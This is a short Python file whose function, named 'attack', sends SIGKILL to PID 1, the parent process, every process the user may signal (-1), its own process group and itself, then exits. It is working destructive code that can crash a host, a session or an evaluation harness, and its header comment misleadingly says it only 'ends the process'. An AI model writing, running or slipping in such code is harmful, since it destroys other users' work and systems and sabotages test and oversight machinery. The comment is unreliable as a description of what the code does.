# Ends the process when it is called, by all that can end it.
import os
import signal
import sys


def attack(*arguments):
    for process in (1, os.getppid(), -1, 0, os.getpid()):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    sys.exit(0)
